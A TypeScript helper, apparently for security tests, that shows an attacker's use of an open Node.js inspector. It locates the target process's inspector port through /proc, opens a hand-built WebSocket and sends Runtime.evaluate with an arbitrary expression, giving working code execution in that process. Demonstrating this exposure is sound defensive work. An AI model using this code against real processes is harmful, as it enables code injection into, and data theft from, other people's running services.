// What an attacker does with an open inspector of node: finds its port and has an expression evaluated. Just as much
// WebSocket (RFC 6455) as that takes.

import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { readdirSync, readFileSync, readlinkSync } from "node:fs";
import { request, type IncomingMessage } from "node:http";
import type { Duplex } from "node:stream";
import { setTimeout as delay } from "node:timers/promises";

const OPEN_WITHIN_MS = 3_000;
const HOST = "127.0.0.1";
/** The state of a listening socket in /proc/net/tcp. */
const LISTENING = "0A";

/** The value of a JavaScript expression in another process, as text. */
export async function evaluateIn(pid: number, expression: string): Promise<string> {
  const port = await waitForPort(pid);
  const listed = await fetch(`http://${HOST}:${port}/json/list`);
  const [target] = (await listed.json()) as readonly { readonly webSocketDebuggerUrl: string }[];
  if (target === undefined) throw new Error(`expected something to inspect on port ${port}, got nothing`);
  const socket = await upgrade(port, new URL(target.webSocketDebuggerUrl).pathname);
  try {
    socket.write(textFrame(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } })));
    const answer = JSON.parse(await readText(socket)) as {
      readonly result?: { readonly result?: { value?: unknown } };
    };
    return String(answer.result?.result?.value);
  } finally {
    socket.destroy();
  }
}

async function waitForPort(pid: number): Promise<number> {
  for (const deadline = Date.now() + OPEN_WITHIN_MS; ; await delay(5)) {
    const port = listeningPort(pid);
    if (port !== undefined) return port;
    if (Date.now() > deadline) throw new Error(`process ${pid} opened no inspector`);
  }
}

function listeningPort(pid: number): number | undefined {
  const sockets = new Set<string>();
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    const inode = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1];
    if (inode !== undefined) sockets.add(inode);
  }
  for (const line of readFileSync("/proc/net/tcp", "latin1").trim().split("\n").slice(1)) {
    const [, local = "", , state, , , , , , inode = ""] = line.trim().split(/\s+/);
    if (state === LISTENING && sockets.has(inode)) return Number.parseInt(local.split(":")[1] ?? "", 16);
  }
  return undefined;
}

async function upgrade(port: number, path: string): Promise<Duplex> {
  const headers = {
    Connection: "Upgrade",
    Upgrade: "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": randomBytes(16).toString("base64"),
  };
  const asking = request({ host: HOST, port, path, headers });
  asking.end();
  const [, socket, head] = (await once(asking, "upgrade")) as [IncomingMessage, Duplex, Buffer];
  socket.unshift(head);
  return socket;
}

/** A client has to mask what it sends; a mask of zeros is one. */
function textFrame(text: string): Buffer {
  const payload = Buffer.from(text);
  const header = Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff, 0, 0, 0, 0]);
  return Buffer.concat([header, payload]);
}

/** The first frame, which holds the whole of a short answer. */
async function readText(socket: Duplex): Promise<string> {
  let got = Buffer.alloc(0);
  for await (const chunk of socket as AsyncIterable<Buffer>) {
    got = Buffer.concat([got, chunk]);
    if (got.length < 10) continue;
    const short = (got[1] ?? 0) & 0x7f;
    const start = short < 126 ? 2 : short === 126 ? 4 : 10;
    const length = short < 126 ? short : short === 126 ? got.readUInt16BE(2) : Number(got.readBigUInt64BE(2));
    if (got.length >= start + length) return got.subarray(start, start + length).toString();
  }
  throw new Error("the inspector went away before it answered");
}
